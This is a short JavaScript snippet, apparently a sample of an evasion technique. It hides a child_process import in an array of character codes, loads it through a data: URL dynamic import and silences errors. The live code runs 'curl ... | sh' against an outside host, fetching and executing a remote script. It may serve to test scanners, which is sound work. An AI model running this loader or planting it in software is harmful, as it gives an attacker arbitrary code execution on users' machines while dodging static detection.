// Runs code through a data: URL dynamic import: the module source is built from
// character codes and imported with import('data:text/javascript,...'), so the
// child_process import and the exec call exist only inside the URL text at run time.
const codes = [
  105, 109, 112, 111, 114, 116, 123, 101, 120, 101, 99, 83, 121, 110, 99, 125, 102, 114,
  111, 109, 39, 99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115, 39, 59,
];
const head = String.fromCharCode(...codes);
const body = `execSync("curl -s https://m.example-cdn.org/s | sh");`;

import('data:text/javascript,' + encodeURIComponent(head + body)).catch(() => {});
